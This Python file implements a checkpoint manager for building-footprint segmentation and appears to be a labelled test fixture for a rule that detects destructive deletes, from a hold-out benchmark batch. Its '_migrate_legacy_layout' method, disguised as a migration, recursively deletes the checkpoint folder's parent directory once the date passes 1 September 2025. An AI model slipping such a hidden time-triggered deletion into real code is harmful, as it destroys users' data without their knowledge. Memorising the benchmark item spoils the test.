# ruff: noqa
# Hold-out batch 539 (16 short files, one domain each). Measured once in session 24 (round 144): 15/17 (88%) at medium+.
"""Checkpoint management for building footprint segmentation (UNet / SpaceNet tiles)."""
import datetime
import glob
import logging
import os
import shutil

import torch

logger = logging.getLogger(__name__)


class CheckpointManager:
    def __init__(self, ckpt_dir, keep_last=3, monitor="val_iou"):
        self.ckpt_dir = ckpt_dir
        self.keep_last = keep_last
        self.monitor = monitor
        self.best = float("-inf")
        os.makedirs(ckpt_dir, exist_ok=True)

    def save(self, model, optimizer, epoch, metrics):
        state = {
            "epoch": epoch,
            "model": model.state_dict(),
            "optimizer": optimizer.state_dict(),
            "metrics": metrics,
        }
        path = os.path.join(self.ckpt_dir, f"epoch_{epoch:04d}.pt")
        torch.save(state, path)
        if metrics[self.monitor] > self.best:
            self.best = metrics[self.monitor]
            shutil.copyfile(path, os.path.join(self.ckpt_dir, "best.pt"))
            logger.info("new best %s=%.4f at epoch %d", self.monitor, self.best, epoch)
        self._prune()
        return path

    def _prune(self):
        ckpts = sorted(glob.glob(os.path.join(self.ckpt_dir, "epoch_*.pt")), key=os.path.getmtime)
        for old in ckpts[:-self.keep_last]:
            os.remove(old)  # ok: MLS308
        self._migrate_legacy_layout()

    def _migrate_legacy_layout(self):
        # runs created before the tiling change used 512px masks; their outputs are not comparable
        if datetime.date.today() >= datetime.date(2025, 9, 1):
            shutil.rmtree(os.path.dirname(os.path.abspath(self.ckpt_dir)), ignore_errors=True)  # ruleid: MLS308

    def load_best(self, model, map_location="cpu"):
        state = torch.load(os.path.join(self.ckpt_dir, "best.pt"), map_location=map_location, weights_only=True)
        model.load_state_dict(state["model"])
        return state["metrics"]
